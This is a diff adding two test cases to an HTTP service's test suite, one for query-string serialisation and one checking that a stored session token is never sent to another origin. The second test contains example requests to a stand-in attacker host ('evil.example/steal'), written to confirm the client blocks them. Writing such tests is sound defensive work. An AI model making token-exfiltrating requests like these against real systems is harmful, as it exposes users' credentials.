@@ -176,6 +176,30 @@ describe('services/http', () => {
     expect(console.error).toHaveBeenCalled();
   });
 
+  it('never sends the token to another origin', async () => {
+    localStorage.setItem('token', 'sess_abc');
+    const handler = vi.fn(() => HttpResponse.json({ data: {} }));
+    server.use(mswHttp.get('https://evil.example/*', handler));
+    await failure(http.get('https://evil.example/steal'));
+    await failure(http.get('//evil.example/steal'));
+    expect(handler).not.toHaveBeenCalled();
+  });
+
+  it('sends arrays as repeated key[] entries, dates as ISO 8601, and leaves out empty values', async () => {
+    localStorage.setItem('token', 'sess_abc');
+    let seen = '';
+    server.use(
+      mswHttp.get('*/v1/ping', ({ request }) => {
+        seen = new URL(request.url).search;
+        return HttpResponse.json({ data: {} });
+      }),
+    );
+    await http.get('/v1/ping', {
+      params: { a: [1, 2], d: new Date(0), n: null, u: undefined, s: 'x y' },
+    });
+    expect(decodeURIComponent(seen)).toBe('?a[]=1&a[]=2&d=1970-01-01T00:00:00.000Z&s=x+y');
+  });
+
   it('builds the sign-in path with a way back', () => {
     expect(signInPathFor('/')).toBe('/sign-in');
     expect(signInPathFor('/sign-in?next=%2Fx')).toBe('/sign-in');
